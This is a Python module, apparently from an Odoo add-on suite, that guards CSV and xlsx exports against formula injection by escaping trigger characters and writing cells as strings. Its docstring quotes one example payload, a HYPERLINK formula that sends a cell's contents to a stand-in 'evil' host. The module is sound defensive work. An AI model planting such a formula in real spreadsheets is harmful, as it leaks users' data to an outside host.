"""Text written to spreadsheets stays text: the one home of the suite's export escaping.

A name such as ``=HYPERLINK("http://evil?d="&A1)`` must never become a live formula in the
file a manager opens. CSV cells starting with a formula trigger get a leading apostrophe, as
OWASP advises ("CSV Injection"); xlsx cells are written as string cells, which a spreadsheet
never evaluates.
"""

import io

# First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# xlsxwriter options: strings are never turned into formulas, links or numbers.
XLSX_OPTIONS = {
    "in_memory": True,
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}


def csv_safe(value):
    """``value`` as a CSV cell: text starting with a formula trigger is prefixed with ``'``;
    numbers, dates and other values are left as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def csv_safe_row(row):
    return [csv_safe(value) for value in row]


def xlsx_write(sheet, row, col, value, cell_format=None):
    """Write one xlsx cell: text as a string cell (never a formula), numbers as numbers."""
    if value is None or value is False:
        return sheet.write_blank(row, col, None, cell_format)
    if isinstance(value, bool | int | float):
        return sheet.write_number(row, col, value, cell_format)
    return sheet.write_string(row, col, str(value), cell_format)


def xlsx_table(sheet_name, header, rows, money_columns=(), widths=()):
    """An xlsx file of one sheet: a bold header, then ``rows`` (sequences of cell values)
    written with ``xlsx_write``; the columns of ``money_columns`` (indexes) as amounts,
    ``widths`` a sequence of (first column, last column, width). Returns the file's bytes."""
    import xlsxwriter  # noqa: PLC0415 - optional dependency, shipped with Odoo

    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, XLSX_OPTIONS)
    sheet = workbook.add_worksheet(sheet_name)
    bold = workbook.add_format({"bold": True})
    money = workbook.add_format({"num_format": "#,##0.00"})
    for col, title in enumerate(header):
        xlsx_write(sheet, 0, col, title, bold)
    for row_index, row in enumerate(rows, start=1):
        for col, value in enumerate(row):
            xlsx_write(sheet, row_index, col, value, money if col in money_columns else None)
    for first, last, width in widths:
        sheet.set_column(first, last, width)
    workbook.close()
    return buffer.getvalue()
